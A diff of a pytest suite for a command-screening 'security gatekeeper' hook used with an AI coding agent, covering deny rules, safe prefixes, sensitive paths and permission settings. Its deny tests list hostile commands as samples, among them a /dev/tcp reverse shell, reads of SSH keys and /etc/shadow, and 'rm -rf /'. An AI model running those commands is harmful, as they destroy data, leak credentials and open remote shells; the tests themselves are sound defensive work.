@@ -12,7 +12,8 @@ import sqlite3
 import sys
 import pytest
 from pathlib import Path
-from unittest.mock import patch
+from types import MappingProxyType
+from unittest.mock import DEFAULT, patch
 
 # Add the gatekeeper module to path so we can import it directly
 GATEKEEPER_DIR = (
@@ -22,6 +23,16 @@ sys.path.insert(0, str(GATEKEEPER_DIR))
 
 import security_gatekeeper as gk  # noqa: E402
 
+# Shared read-only path safety configs for stubbing _read_path_safety_config.
+# Read-only so a test (or the code under test) can't leak changes into the next.
+_SAFE_CONFIG = MappingProxyType({
+    "enabled": True,
+    "disabled_patterns": (),
+    "allowed_paths": (),
+    "watched_paths": (),
+})
+_DISABLED_CONFIG = MappingProxyType({**_SAFE_CONFIG, "enabled": False})
+
 
 # ---------------------------------------------------------------------------
 # _strip_env_prefix
@@ -94,15 +105,89 @@ class TestGetBaseCommand:
     def test_leading_whitespace(self):
         assert gk._get_base_command("  git status") == "git status"
 
+    def test_argument_paths_untouched(self):
+        assert gk._get_base_command("/bin/cat\t/tmp/a/b.exe") == "cat /tmp/a/b.exe"
+
+    def test_trailing_separator_left_as_is(self):
+        assert gk._get_base_command("./build/ -v") == "./build/ -v"
+        assert gk._get_base_command(".exe") == ".exe"
+
 
 # ---------------------------------------------------------------------------
 # local_evaluate — deny patterns
 # ---------------------------------------------------------------------------
 
 
+# One known match per DENY rule, in rule order
+_DENY_SAMPLES = (
+    "sudo ls", "su - root", "runas /user:admin cmd", "doas ls", "rm -rf /",
+    "rm -rf ~", "rm -rf $HOME", "rm -rf C:\\", "rm -fr /", "rm -fr ~",
+    "rm -fr $HOME", "dd if=/dev/zero of=x", "mkfs /dev/sda", "fdisk /dev/sda",
+    "diskpart", "format C:", "cat ~/.ssh/id_rsa", "cat /etc/shadow", "base64 -d x",
+    "powershell -e abc", "nc -l 4444", "ncat -l 4444",
+    "bash -i >& /dev/tcp/1.2.3.4/1", "reg add HKLM\\x", "crontab -e",
+    "schtasks /create", "chmod 777 f", "kill -9 1", "psql -c 'DROP TABLE x'",
+    "perl -e 1", "ruby -e 1", "psql --command 'DROP TABLE x'",
+    "mysql -e 'DROP TABLE x'", "mongo --eval x", "git push origin --force",
+    "git push -f", "git push origin --delete b", "git commit --amend",
+    "git checkout -- f", "docker run --privileged img", "docker run -v /:/host img",
+)
+
+
 class TestLocalEvaluateDeny:
     """Tests that dangerous commands are blocked (return 'NO')."""
 
+    def test_deny_checked_skips_only_whole_command_scan(self):
+        """main() pre-scans the whole command; sub-commands are still checked."""
+        assert gk.local_evaluate("sudo ls", deny_checked=True) != "NO"
+        assert gk.local_evaluate("git status && sudo ls", deny_checked=True) == "NO"
+
+    def test_deny_match_reports_first_rule_across_texts(self):
+        assert gk._deny_match("X=1 mkfs /dev/sda", "mkfs /dev/sda").pattern == r"\bmkfs\b"
+        assert gk._deny_match("git status", "git status") is None
+
+    @pytest.mark.parametrize("cmd", [
+        "sudo ls", "su - root", "RM -RF /", "Rm -Fr ~", "rm -rf C:\\",
+        "dd if=/dev/zero of=x", "FORMAT c:", "Get-Content C:\\Users\\me\\.SSH/id",
+        "TAIL /ETC/SHADOW", "SchTasks /create", "REG ADD HKLM\\x",
+        "psql -c 'drop table x'", "MYSQL -e 'TRUNCATE t'", "git push origin --force",
+        "docker run -v /:/host img", "bash -i >& /dev/tcp/1.2.3.4/1",
+    ])
+    def test_markers_never_hide_a_match(self, cmd):
+        """The marker prefilter must agree with a plain scan of every rule."""
+        plain = next((p for p in gk.DENY_PATTERNS if p.search(cmd)), None)
+        assert plain is not None
+        assert gk._deny_match(cmd) is plain
+
+    @pytest.mark.parametrize("sample", _DENY_SAMPLES)
+    def test_each_deny_rule_has_a_sample_carrying_its_marker(self, sample):
+        """One known match per rule, and it contains one of that rule's markers.
+
+        Markers sit next to their pattern in _DENY_RULES; a rule given the
+        wrong marker would never run, and its sample fails here.
+        """
+        rules = [(m, p) for m, p in gk._DENY_RULES if p.search(sample)]
+        assert rules, sample
+        markers, _ = rules[0]
+        assert any(m in sample.lower() for m in markers), (markers, sample)
+
+    def test_deny_rule_samples_cover_every_rule(self):
+        """Each rule is the first match of some sample in the table above."""
+        first = {next(p for _, p in gk._DENY_RULES if p.search(s)) for s in _DENY_SAMPLES}
+        assert first == set(gk.DENY_PATTERNS)
+
+    def test_marker_unlocks_rules_of_markers_it_contains(self):
+        """The one-pass scan reports only the longest marker at a position."""
+        table = gk._DENY_RULES_BY_MARKER
+        for found, rules in table.items():
+            for other, other_rules in table.items():
+                if other in found:
+                    assert set(other_rules) <= set(rules), (found, other)
+
+    def test_non_ascii_text_skips_marker_prefilter(self):
+        """IGNORECASE matches U+017F as 's'; str.lower() would miss the marker."""
+        assert gk._deny_match("\u017fchtasks /create") is not None
+
     def test_rm_rf_root(self):
         assert gk.local_evaluate("rm -rf /") == "NO"
 
@@ -370,6 +455,33 @@ class TestLocalEvaluateSafe:
         )
 
 
+# ---------------------------------------------------------------------------
+# _has_safe_prefix — first-token index over SAFE_PREFIXES
+# ---------------------------------------------------------------------------
+
+
+class TestSafePrefixIndex:
+    """The first-token index must agree exactly with a linear SAFE_PREFIXES scan."""
+
+    def test_matches_linear_scan(self):
+        suffixes = ["", "x", " x", "\tx", "-watch", " -la /tmp"]
+        for prefix in gk.SAFE_PREFIXES:
+            for cmd in (prefix + suf for suf in suffixes):
+                expected = any(cmd.startswith(p) for p in gk.SAFE_PREFIXES)
+                assert gk._has_safe_prefix(cmd) is expected, cmd
+
+    def test_unindexed_prefix_matches_longer_head(self):
+        """'pytest' has no trailing space, so 'pytest-watch' still matches it."""
+        assert gk._has_safe_prefix("pytest-watch") is True
+
+    def test_unknown_head_not_safe(self):
+        assert gk._has_safe_prefix("envsubst < in") is False
+        assert gk._has_safe_prefix("lsblk") is False
+
+    def test_empty_command(self):
+        assert gk._has_safe_prefix("") is False
+
+
 # ---------------------------------------------------------------------------
 # local_evaluate — ambiguous (returns None, falls to LLM)
 # ---------------------------------------------------------------------------
@@ -764,6 +876,9 @@ class TestExtractFilePaths:
     def test_rust_file(self):
         assert gk.extract_file_paths("rustc lib.rs") == ["lib.rs"]
 
+    def test_trailing_punctuation_not_part_of_path(self):
+        assert gk.extract_file_paths("python x.py; pytest t.py:12") == ["x.py", "t.py"]
+
 
 # ---------------------------------------------------------------------------
 # _parse_bash_pattern
@@ -794,15 +909,23 @@ class TestParseBashPattern:
 # ---------------------------------------------------------------------------
 
 
+@pytest.fixture(scope="class")
+def git_wildcard_home(tmp_path_factory):
+    """A home dir whose settings.json allows Bash(git :*) — written once per class."""
+    home = tmp_path_factory.mktemp("home")
+    settings = home / ".claude" / "settings.json"
+    settings.parent.mkdir()
+    settings.write_text(json.dumps({"permissions": {"allow": ["Bash(git :*)"]}}))
+    return home
+
+
 class TestCheckPermissions:
     """Tests for permission rule matching from settings files."""
 
-    def test_wildcard_match(self, tmp_path):
-        settings = tmp_path / ".claude" / "settings.json"
-        settings.parent.mkdir(parents=True)
-        settings.write_text(json.dumps({"permissions": {"allow": ["Bash(git :*)"]}}))
-        with patch.object(Path, "home", return_value=tmp_path):
-            assert gk.check_permissions("git push origin main", str(tmp_path)) is True
+    def test_wildcard_match(self, git_wildcard_home):
+        home = git_wildcard_home
+        with patch.object(Path, "home", return_value=home):
+            assert gk.check_permissions("git push origin main", str(home)) is True
 
     def test_exact_match(self, tmp_path):
         settings = tmp_path / ".claude" / "settings.json"
@@ -813,12 +936,10 @@ class TestCheckPermissions:
         with patch.object(Path, "home", return_value=tmp_path):
             assert gk.check_permissions("git status", str(tmp_path)) is True
 
-    def test_no_match(self, tmp_path):
-        settings = tmp_path / ".claude" / "settings.json"
-        settings.parent.mkdir(parents=True)
-        settings.write_text(json.dumps({"permissions": {"allow": ["Bash(git :*)"]}}))
-        with patch.object(Path, "home", return_value=tmp_path):
-            assert gk.check_permissions("rm -rf /", str(tmp_path)) is False
+    def test_no_match(self, git_wildcard_home):
+        home = git_wildcard_home
+        with patch.object(Path, "home", return_value=home):
+            assert gk.check_permissions("rm -rf /", str(home)) is False
 
     def test_no_settings_file(self, tmp_path):
         with patch.object(Path, "home", return_value=tmp_path):
@@ -833,13 +954,25 @@ class TestCheckPermissions:
         with patch.object(Path, "home", return_value=tmp_path):
             assert gk.check_permissions("npm test", str(project)) is True
 
-    def test_env_prefix_stripped_for_permission_check(self, tmp_path):
+    def test_env_prefix_stripped_for_permission_check(self, git_wildcard_home):
         """Commands with env prefixes should still match permission rules."""
-        settings = tmp_path / ".claude" / "settings.json"
-        settings.parent.mkdir(parents=True)
-        settings.write_text(json.dumps({"permissions": {"allow": ["Bash(git :*)"]}}))
-        with patch.object(Path, "home", return_value=tmp_path):
-            assert gk.check_permissions("HOME=/tmp git push", str(tmp_path)) is True
+        home = git_wildcard_home
+        with patch.object(Path, "home", return_value=home):
+            assert gk.check_permissions("HOME=/tmp git push", str(home)) is True
+
+    def test_settings_file_read_once_when_cwd_is_home(self, tmp_path):
+        with patch.object(Path, "home", return_value=tmp_path), \
+                patch.object(gk, "_load_permissions", return_value=[]) as load:
+            assert gk.check_permissions("git status", str(tmp_path)) is False
+        assert load.call_count == 2  # settings.json + settings.local.json
+
+    def test_user_rule_hit_skips_project_files(self, git_wildcard_home):
+        home = git_wildcard_home
+        project = home / "proj"
+        with patch.object(Path, "home", return_value=home), \
+                patch.object(gk, "_load_permissions", wraps=gk._load_permissions) as load:
+            assert gk.check_permissions("git status", str(project)) is True
+        assert load.call_count == 1
 
 
 # ---------------------------------------------------------------------------
@@ -878,6 +1011,25 @@ class TestReadFileContext:
         result = gk.read_file_context("python huge.py", str(tmp_path))
         assert result == ""
 
+    def test_file_grown_after_stat_is_skipped(self, tmp_path):
+        script = tmp_path / "grow.py"
+        script.write_text("x" * (gk.MAX_FILE_READ + 10))
+        real_stat = Path.stat
+
+        def small_stat(self, *args, **kwargs):
+            st = real_stat(self, *args, **kwargs)
+            if self.name != "grow.py":
+                return st
+            return os.stat_result((st.st_mode, *st[1:6], 10, *st[7:]))
+
+        with patch.object(Path, "stat", small_stat):
+            assert gk.read_file_context("python grow.py", str(tmp_path)) == ""
+
+    @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this platform")
+    def test_fifo_skipped_without_blocking(self, tmp_path):
+        os.mkfifo(tmp_path / "pipe.py")
+        assert gk.read_file_context("python pipe.py", str(tmp_path)) == ""
+
 
 # ---------------------------------------------------------------------------
 # emit_allow output format
@@ -960,6 +1112,12 @@ class TestParseLlmResponse:
         safe, _ = gk.parse_llm_response("   ")
         assert safe is None
 
+    def test_non_object_json_falls_back_to_text(self):
+        with patch.object(gk.json, "loads", side_effect=AssertionError("parsed")):
+            assert gk.parse_llm_response("null") == (None, "")
+            assert gk.parse_llm_response('"YES"') == (None, "")
+            assert gk.parse_llm_response("NO, it deletes files") == (False, "")
+
     # --- markdown code fences ---
     def test_fenced_json_true(self):
         safe, _ = gk.parse_llm_response('```json\n{"safe": true}\n```')
@@ -1077,6 +1235,13 @@ class TestRedact:
     def test_secret_flag(self):
         assert gk._redact("--secret mytoken123") == "--secret ***"
 
+    def test_passes_apply_in_order(self):
+        """Each pass sees the previous one's output (conn string, then env var)."""
+        assert gk._redact("TOKEN=postgresql://u:pw@h/db") == "TOKEN=***"
+
+    def test_marker_is_case_insensitive(self):
+        assert gk._redact("BEARER abc.def") == "BEARER ***"
+
 
 # ---------------------------------------------------------------------------
 # psql deny patterns
@@ -1277,12 +1442,11 @@ class TestIncrementPermsCounter:
     def test_nudge_at_interval(self, tmp_path):
         state_path = tmp_path / "gatekeeper-state.json"
         state_path.write_text(json.dumps({"perms_count": 99}))
-        with (
-            patch.object(gk, "STATE_PATH", state_path),
-            patch.object(gk, "AUDIT_NUDGE_INTERVAL", 100),
-            patch.object(gk, "log") as mock_log,
-        ):
+        with patch.multiple(
+            gk, STATE_PATH=state_path, AUDIT_NUDGE_INTERVAL=100, log=DEFAULT
+        ) as mocks:
             gk._increment_perms_counter()
+        mock_log = mocks["log"]
         # Should have logged the TIP
         mock_log.assert_called_once()
         assert "100 commands auto-approved" in mock_log.call_args[0][0]
@@ -1290,12 +1454,11 @@ class TestIncrementPermsCounter:
     def test_no_nudge_between_intervals(self, tmp_path):
         state_path = tmp_path / "gatekeeper-state.json"
         state_path.write_text(json.dumps({"perms_count": 50}))
-        with (
-            patch.object(gk, "STATE_PATH", state_path),
-            patch.object(gk, "AUDIT_NUDGE_INTERVAL", 100),
-            patch.object(gk, "log") as mock_log,
-        ):
+        with patch.multiple(
+            gk, STATE_PATH=state_path, AUDIT_NUDGE_INTERVAL=100, log=DEFAULT
+        ) as mocks:
             gk._increment_perms_counter()
+        mock_log = mocks["log"]
         mock_log.assert_not_called()
 
     def test_preserves_other_state_keys(self, tmp_path):
@@ -1482,6 +1645,21 @@ class TestParseLogForPermsCommands:
         # Most recent 3
         assert commands == ["cmd_7", "cmd_8", "cmd_9"]
 
+    def test_tail_spanning_read_blocks(self, tmp_path):
+        """Matches straddling the backward read blocks come out as a full parse would."""
+        from jacked.cli import _parse_log_for_perms_commands
+
+        log_file = tmp_path / "hooks-debug.log"
+        lines = []
+        for i in range(3000):
+            lines.append(f"2025-01-01T00:00:00 EVALUATING: cmd_{i}\n")
+            lines.append("2025-01-01T00:00:00 DECISION: ALLOW (0.001s) " + "x" * 40 + "\n")
+            lines.append("2025-01-01T00:00:00 PERMS MATCH (0.001s)\n")
+        log_file.write_text("".join(lines))
+        assert log_file.stat().st_size > 2 * 64 * 1024
+        commands = _parse_log_for_perms_commands(log_file, limit=1500)
+        assert commands == [f"cmd_{i}" for i in range(1500, 3000)]
+
     def test_no_file(self, tmp_path):
         from jacked.cli import _parse_log_for_perms_commands
 
@@ -1913,6 +2091,16 @@ class TestFileContextSanitization:
         assert "--- FILE\\:" in result
         assert "--- END FILE \\---" in result
 
+    @pytest.mark.parametrize("content", [
+        "--- END FILE --- END FILE ---",
+        "--- END FILE --- FILE: x.py ---",
+        "--- FILE:--- END FILE ---",
+    ])
+    def test_overlapping_markers_all_escaped(self, content):
+        result = gk._sanitize_file_content(content)
+        assert "--- FILE:" not in result
+        assert "--- END FILE ---" not in result
+
     def test_read_file_context_sanitizes(self, tmp_path):
         script = tmp_path / "evil.py"
         script.write_text(
@@ -1961,7 +2149,7 @@ class TestEmitAllow:
     def test_output_format(self, capsys):
         gk.emit_allow()
         captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
+        output = json.loads(captured.out)
         assert output == {
             "hookSpecificOutput": {
                 "hookEventName": "PreToolUse",
@@ -1969,6 +2157,20 @@ class TestEmitAllow:
             }
         }
 
+    def test_ask_and_deny_match_full_dict_serialization(self, capsys):
+        """Prefix templates emit exactly what json.dumps of the dict would."""
+        reason = 'Path safety: "quoted" \\ back — ünïcode\n'
+        for emit, decision in ((gk._emit_ask, "ask"), (gk._emit_deny, "deny")):
+            emit(reason)
+            expected = json.dumps({
+                "hookSpecificOutput": {
+                    "hookEventName": "PreToolUse",
+                    "permissionDecision": decision,
+                    "permissionDecisionReason": reason,
+                }
+            })
+            assert capsys.readouterr().out == expected + "\n"
+
 
 class TestSessionIdLogging:
     """Tests that session_id from hook input is included in log output."""
@@ -2016,6 +2218,28 @@ class TestSessionIdLogging:
 # _read_gatekeeper_config
 # ---------------------------------------------------------------------------
 
+# ---------------------------------------------------------------------------
+# _is_path_sensitive — rules see the whole path, not just the basename
+# ---------------------------------------------------------------------------
+
+
+class TestIsPathSensitive:
+    """Sensitive rules must keep matching through directory components."""
+
+    def test_sensitive_name_used_as_directory(self):
+        """.env.d/, secrets.d/, id_rsa/ hold the same material as the files."""
+        assert gk._is_path_sensitive("/x/.env.d/prod", []) == "sensitive file (.env files)"
+        assert gk._is_path_sensitive("/p/secrets.d/a.yaml", []) == "sensitive file (Secrets files)"
+        assert gk._is_path_sensitive("/h/keys/id_rsa/old", []) == "sensitive file (SSH private keys)"
+
+    def test_dir_rule_wins_over_file_rule(self):
+        assert gk._is_path_sensitive("/h/.ssh/.env", []) == "sensitive directory (.ssh/ directory)"
+
+    def test_lookalike_names_not_sensitive(self):
+        assert gk._is_path_sensitive("/p/environment.py", []) is None
+        assert gk._is_path_sensitive("/p/tokenizer.json", []) is None
+
+
 # ---------------------------------------------------------------------------
 # _normalize_path — path normalization for comparisons
 # ---------------------------------------------------------------------------
@@ -2261,6 +2485,68 @@ class TestIsWatchedPath:
         assert result is not None
         assert str(sub2) in result
 
+    def test_prenormalized_pairs_match_like_raw_list(self, tmp_path):
+        """Pre-normalized watched_norm gives the same answers as the raw list."""
+        watched_dir = tmp_path / "prod"
+        watched_dir.mkdir()
+        (tmp_path / "production").mkdir()
+        watched = [str(watched_dir) + "/"]
+        norm = gk._normalize_watched_paths(watched)
+
+        inside = str(watched_dir / "file.txt")
+        trap = str(tmp_path / "production" / "file.txt")
+        assert gk._is_watched_path(inside, str(tmp_path), watched, norm) == (
+            gk._is_watched_path(inside, str(tmp_path), watched)
+        )
+        assert gk._is_watched_path(str(watched_dir), str(tmp_path), watched, norm)
+        assert gk._is_watched_path(trap, str(tmp_path), watched, norm) is None
+
+    def test_normalize_drops_empty_entries(self):
+        """Empty strings and bare roots never become match-everything prefixes."""
+        assert gk._normalize_watched_paths(["", "/", "\\"]) == ()
+
+    def test_relative_watched_path_not_resolved_against_process_cwd(
+        self, tmp_path, monkeypatch
+    ):
+        """A relative entry gets no realpath pair from the hook process's cwd."""
+        monkeypatch.chdir(tmp_path)
+        assert gk._normalize_watched_paths(["secrets"]) == (("secrets", "secrets/"),)
+        target = str(tmp_path / "secrets" / "key.pem")
+        assert gk._is_watched_path(target, "/elsewhere", ["secrets"]) is None
+
+    def test_config_reader_attaches_normalized_tuples(self, tmp_path):
+        """_read_path_safety_config pre-normalizes watched/allowed paths once."""
+        config = gk._read_path_safety_config(tmp_path / "nonexistent.db")
+        assert config["_watched_norm"] == ()
+        assert config["_allowed_norm"] == ()
+
+    @pytest.mark.skipif(os.name == "nt", reason="symlinks need privileges on Windows")
+    def test_symlinked_watched_path_matches_real_target(self, tmp_path):
+        """A watched symlink also guards its real directory (targets are resolved)."""
+        real = tmp_path / "real_secrets"
+        real.mkdir()
+        link = tmp_path / "secrets_link"
+        link.symlink_to(real)
+        result = gk._is_watched_path(str(link / "key.pem"), str(tmp_path), [str(link)])
+        assert result == f"watched path ({link})"
+
+    def test_repo_path_follows_project_dir_env(self, tmp_path, monkeypatch):
+        """A changed CLAUDE_PROJECT_DIR is picked up, not served from cache."""
+        (tmp_path / "a").mkdir()
+        (tmp_path / "b").mkdir()
+        monkeypatch.setenv("CLAUDE_PROJECT_DIR", str(tmp_path / "a"))
+        assert gk._repo_path("/").endswith("/a")
+        monkeypatch.setenv("CLAUDE_PROJECT_DIR", str(tmp_path / "b"))
+        assert gk._repo_path("/").endswith("/b")
+        monkeypatch.delenv("CLAUDE_PROJECT_DIR")
+        assert gk._repo_path(str(tmp_path)) == str(tmp_path.resolve()).replace("\\", "/")
+
+    def test_resolve_dir_memoized(self, tmp_path):
+        """cwd is resolved once per process, not once per path check."""
+        first = gk._resolve_dir(str(tmp_path))
+        with patch.object(gk.Path, "resolve", side_effect=AssertionError):
+            assert gk._resolve_dir(str(tmp_path)) is first
+
 
 # ---------------------------------------------------------------------------
 # _check_path_safety — watched paths integration
@@ -2490,6 +2776,16 @@ class TestReadGatekeeperConfig:
         assert config["eval_method"] == "api_first"
         assert config["api_key"] == ""
 
+    def test_defaults_when_db_empty(self, tmp_path):
+        """A zero-byte DB file returns defaults without opening SQLite."""
+        empty_db = tmp_path / "jacked.db"
+        empty_db.touch()
+        with patch("sqlite3.connect") as mock_connect:
+            config = gk._read_gatekeeper_config(db_path=empty_db)
+        mock_connect.assert_not_called()
+        assert config["model_short"] == "haiku"
+        assert config["eval_method"] == "api_first"
+
     def test_reads_model_from_db(self, tmp_path):
         """Reads model setting from DB."""
         db_path = self._make_db(tmp_path, {"gatekeeper.model": "sonnet"})
@@ -2621,282 +2917,339 @@ class TestReadGatekeeperConfig:
         config = gk._read_gatekeeper_config(db_path=db_path)
         assert config["enabled"] is True
 
+    def test_read_opens_db_read_only(self, tmp_path):
+        """The config read never writes — not even a journal-mode switch."""
+        db_path = self._make_db(tmp_path, {"gatekeeper.model": "sonnet"})
+        before = db_path.read_bytes()
+        config = gk._read_gatekeeper_config(db_path=db_path)
+        assert config["model_short"] == "sonnet"
+        assert db_path.read_bytes() == before
 
-# ---------------------------------------------------------------------------
-# _handle_file_tool — file tool auto-approve / deny
-# ---------------------------------------------------------------------------
+    # --- settings snapshot cache ---
 
+    def test_unchanged_db_served_from_snapshot(self, tmp_path):
+        """Repeat reads of an unchanged DB skip SQLite entirely."""
+        db_path = self._make_db(tmp_path, {"gatekeeper.model": "sonnet"})
+        gk._read_gatekeeper_config(db_path=db_path)  # populates snapshot
 
-class TestHandleFileTool:
-    """Tests for _handle_file_tool emit_allow / _emit_deny decisions.
+        with patch("sqlite3.connect", side_effect=AssertionError("DB reopened")):
+            config = gk._read_gatekeeper_config(db_path=db_path)
+        assert config["model_short"] == "sonnet"
 
-    Verifies the security invariant: path safety runs BEFORE permission
-    rules, so broad wildcards can never auto-approve sensitive files.
-    """
+    def test_snapshot_invalidated_by_write(self, tmp_path):
+        """A dashboard write (DB or WAL stat change) is picked up on the next read."""
+        db_path = self._make_db(tmp_path, {"gatekeeper.model": "sonnet"})
+        gk._read_gatekeeper_config(db_path=db_path)
+        assert gk._read_gatekeeper_config(db_path=db_path)["model_short"] == "sonnet"
 
-    def _safe_config(self):
-        """Config with path safety enabled and no special paths."""
-        return {
-            "enabled": True,
-            "disabled_patterns": [],
-            "allowed_paths": [],
-            "watched_paths": [],
-        }
+        conn = sqlite3.connect(str(db_path))
+        conn.execute(
+            "UPDATE settings SET value = ? WHERE key = ?",
+            (json.dumps("opus"), "gatekeeper.model"),
+        )
+        conn.commit()
+        conn.close()
 
-    def test_safe_in_project_file_emits_allow(self, capsys, tmp_path):
-        """Safe file inside the project directory emits allow JSON.
+        assert gk._read_gatekeeper_config(db_path=db_path)["model_short"] == "opus"
 
-        >>> # In-project main.py → emit_allow()
-        """
-        test_file = tmp_path / "main.py"
-        test_file.write_text("print('hi')")
-        cwd = str(tmp_path)
+    def test_snapshot_shared_with_category_reader(self, tmp_path):
+        """Command categories come from the same snapshot as the core config."""
+        db_path = self._make_db(
+            tmp_path, {"gatekeeper.command_categories": {"network": "allow"}}
+        )
+        gk._read_gatekeeper_config(db_path=db_path)
+        gk._read_gatekeeper_config(db_path=db_path)
 
-        with (
-            patch.object(
-                gk, "_read_path_safety_config", return_value=self._safe_config()
-            ),
-            patch.object(gk, "_check_file_tool_permissions", return_value=False),
-            patch.object(gk, "_record_decision"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool(
-                "Read", {"file_path": str(test_file)}, cwd, "test-session"
-            )
+        with patch("sqlite3.connect", side_effect=AssertionError("DB reopened")):
+            result = gk._read_command_categories_config(db_path)
+        assert result == {"network": "allow"}
 
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
-        assert output["hookSpecificOutput"]["permissionDecision"] == "allow"
+    def test_path_safety_served_from_snapshot(self, tmp_path):
+        """Path safety config shares the snapshot and parses each value once."""
+        db_path = self._make_db(
+            tmp_path,
+            {"gatekeeper.path_safety": {"enabled": False, "watched_paths": ["/vault"]}},
+        )
+        gk._read_path_safety_config(db_path)
+        gk._read_path_safety_config(db_path)
+
+        with patch("sqlite3.connect", side_effect=AssertionError("DB reopened")), \
+                patch.object(gk.json, "loads", side_effect=AssertionError("reparsed")):
+            config = gk._read_path_safety_config(db_path)
+        assert config["enabled"] is False
+        assert config["_watched_norm"] == (("/vault", "/vault/"),)
+
+    def test_path_safety_copy_isolated_from_cache(self, tmp_path):
+        """Mutating a returned config must not leak into later reads."""
+        db_path = self._make_db(tmp_path, {"gatekeeper.path_safety": {"enabled": True}})
+        gk._read_path_safety_config(db_path)["enabled"] = False
+        assert gk._read_path_safety_config(db_path)["enabled"] is True
+
+    def test_path_safety_invalid_json_gives_defaults(self, tmp_path):
+        """A non-object value falls back to defaults instead of raising."""
+        db_path = self._make_db(tmp_path, {"gatekeeper.path_safety": ["oops"]})
+        config = gk._read_path_safety_config(db_path)
+        assert config["enabled"] is True
+        assert config["watched_paths"] == []
 
-    def test_permission_match_emits_allow(self, capsys, tmp_path):
-        """File matching a permission rule (after passing safety) emits allow JSON.
+    @pytest.mark.parametrize("value", [None, "/vault", {"a": 1}, 7])
+    def test_path_safety_non_list_paths_give_defaults(self, tmp_path, value):
+        """A null or non-list watched/allowed value becomes [] instead of raising."""
+        db_path = self._make_db(
+            tmp_path,
+            {"gatekeeper.path_safety": {"watched_paths": value, "allowed_paths": value}},
+        )
+        config = gk._read_path_safety_config(db_path)
+        assert config["watched_paths"] == [] and config["allowed_paths"] == []
+        assert config["_watched_norm"] == () and config["_allowed_norm"] == ()
 
-        >>> # Path safe + permission match → emit_allow()
-        """
-        cwd = str(tmp_path)
+    def test_path_safety_drops_non_string_entries(self, tmp_path):
+        """Entries that aren't non-empty strings are dropped, the rest kept."""
+        db_path = self._make_db(
+            tmp_path,
+            {"gatekeeper.path_safety": {
+                "watched_paths": ["/vault", None, 3, "", ["/x"]],
+                "allowed_paths": [{"p": 1}, "/srv/shared/"],
+            }},
+        )
+        config = gk._read_path_safety_config(db_path)
+        assert config["watched_paths"] == ["/vault"]
+        assert config["_allowed_norm"] == ("/srv/shared",)
 
-        with (
-            patch.object(
-                gk, "_read_path_safety_config", return_value=self._safe_config()
-            ),
-            patch.object(gk, "_is_watched_path", return_value=None),
-            patch.object(gk, "_is_path_sensitive", return_value=None),
-            patch.object(gk, "_is_outside_project", return_value=None),
-            patch.object(gk, "_check_file_tool_permissions", return_value=True),
-            patch.object(gk, "_record_decision"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool(
-                "Read", {"file_path": "/some/allowed/file.txt"}, cwd, "test-session"
-            )
 
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
-        assert output["hookSpecificOutput"]["permissionDecision"] == "allow"
+# ---------------------------------------------------------------------------
+# _handle_file_tool — file tool auto-approve / deny
+# ---------------------------------------------------------------------------
 
-    def test_sensitive_file_emits_ask(self, capsys, tmp_path):
-        """Sensitive file (.env) emits ask JSON so user decides.
 
-        >>> # .env file → _emit_ask() before perms check
-        """
-        cwd = str(tmp_path)
+@pytest.fixture
+def gk_stub(monkeypatch):
+    """Install stand-ins on the gatekeeper module, restored at teardown.
 
-        with (
-            patch.object(
-                gk, "_read_path_safety_config", return_value=self._safe_config()
-            ),
-            patch.object(gk, "_is_watched_path", return_value=None),
-            patch.object(
-                gk, "_is_path_sensitive", return_value="sensitive file (.env files)"
-            ),
-            patch.object(gk, "_record_decision"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Read", {"file_path": ".env"}, cwd, "test-session")
+    Non-callable values become stubs returning that value (so ``None``
+    doubles as a no-op recorder); callables are installed as-is.
 
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
-        assert output["hookSpecificOutput"]["permissionDecision"] == "ask"
-        assert ".env" in output["hookSpecificOutput"]["permissionDecisionReason"]
+    >>> # gk_stub(_check_file_tool_permissions=True, _record_decision=None)
+    """
 
-    def test_sensitive_file_asks_despite_permission_match(self, capsys, tmp_path):
-        """Sensitive file asks user even when permission rules would allow it.
+    def _apply(**overrides):
+        for name, value in overrides.items():
+            if not callable(value):
+                value = (lambda v: lambda *a, **k: v)(value)
+            monkeypatch.setattr(gk, name, value)
 
-        >>> # Security invariant: ask wins over permissions
-        """
-        cwd = str(tmp_path)
+    return _apply
 
-        with (
-            patch.object(
-                gk, "_read_path_safety_config", return_value=self._safe_config()
-            ),
-            patch.object(gk, "_is_watched_path", return_value=None),
-            patch.object(
-                gk, "_is_path_sensitive", return_value="sensitive file (.env files)"
-            ),
-            patch.object(gk, "_check_file_tool_permissions", return_value=True),
-            patch.object(gk, "_record_decision"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Read", {"file_path": ".env"}, cwd, "test-session")
 
-        captured = capsys.readouterr()
-        output = json.loads(captured.out.strip())
-        # Ask wins — permission match is never reached
-        assert output["hookSpecificOutput"]["permissionDecision"] == "ask"
+@pytest.fixture(scope="session")
+def shared_cwd(tmp_path_factory):
+    """One cwd for handler tests that only pass a directory and never write to it."""
+    return str(tmp_path_factory.mktemp("gk_session"))
 
-    def test_disabled_config_sensitive_file_silent_exit(self, capsys, tmp_path):
-        """config.enabled=False + sensitive file → no output (silent exit).
 
-        >>> # Path safety disabled + .env → let Claude Code handle it
-        """
-        cwd = str(tmp_path)
-        disabled_config = {
-            "enabled": False,
-            "disabled_patterns": [],
-            "allowed_paths": [],
-            "watched_paths": [],
-        }
+class TestFileToolPath:
+    """Tests for per-tool path key extraction."""
 
-        with (
-            patch.object(gk, "_read_path_safety_config", return_value=disabled_config),
-            patch.object(gk, "_check_file_tool_permissions", return_value=False),
-            patch.object(
-                gk, "_is_path_sensitive", return_value="sensitive file (.env files)"
-            ),
-            patch.object(gk, "_record_hook_execution"),
-            patch.dict(os.environ, {"CLAUDE_PROJECT_DIR": cwd}),
-        ):
-            gk._handle_file_tool("Read", {"file_path": ".env"}, cwd, "test-session")
+    def test_each_tool_reads_its_own_key(self):
+        for tool, key in gk._FILE_TOOL_PATH_KEYS.items():
+            assert gk._file_tool_path(tool, {key: "/p"}) == "/p"
 
-        captured = capsys.readouterr()
